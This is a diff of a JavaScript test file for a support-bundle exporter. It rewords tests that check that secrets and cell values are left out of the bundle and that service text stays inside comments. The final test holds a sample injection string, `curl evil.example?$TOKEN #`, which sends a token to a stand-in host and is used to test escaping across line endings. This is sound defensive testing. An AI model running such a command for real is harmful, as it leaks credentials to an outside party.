@@ -95,14 +95,14 @@ const activities = exchanges.map((exchange) => toActivity(exchange, base)).rever
 const scope = { service: base, user: 'demo' };
 const texts = bundleTexts({ scope, description: null, activities, now: new Date(0) });
 
-test('keeps tokens, signatures and cells out of a support bundle', () => {
+test('keeps tokens, signatures and cell values out of a support bundle', () => {
 	const files = unzipSync(supportBundle({ scope, description: null, activities, now: new Date(0) }));
 	expect(Object.keys(files).sort()).toEqual(Object.keys(texts).sort());
 	const whole = Object.values(files)
 		.map((file) => strFromU8(file))
 		.join('\n');
 	for (const hidden of [...cells, ...secrets]) expect(whole).not.toContain(hidden);
-	// The seeds are really on the wire, so there was something to remove.
+	// The seeded values are in the requests, so there was something to remove.
 	const wire = JSON.stringify(exchanges);
 	for (const hidden of [...cells, ...secrets]) expect(wire).toContain(hidden);
 });
@@ -138,7 +138,7 @@ test('writes reads as commands and everything else as comments', () => {
 	expect(uncommented).not.toMatch(/PUT|POST|DELETE|store\.example/);
 });
 
-test('keeps text from a service in comments, whatever its line ends', () => {
+test('keeps text from a service in comments, whatever its line endings', () => {
 	for (const end of ['\n', '\r', '\r\n', '\u2028', '\u2029']) {
 		const evil = `X${end}curl evil.example?$TOKEN #`;
 		const answered = exchange({
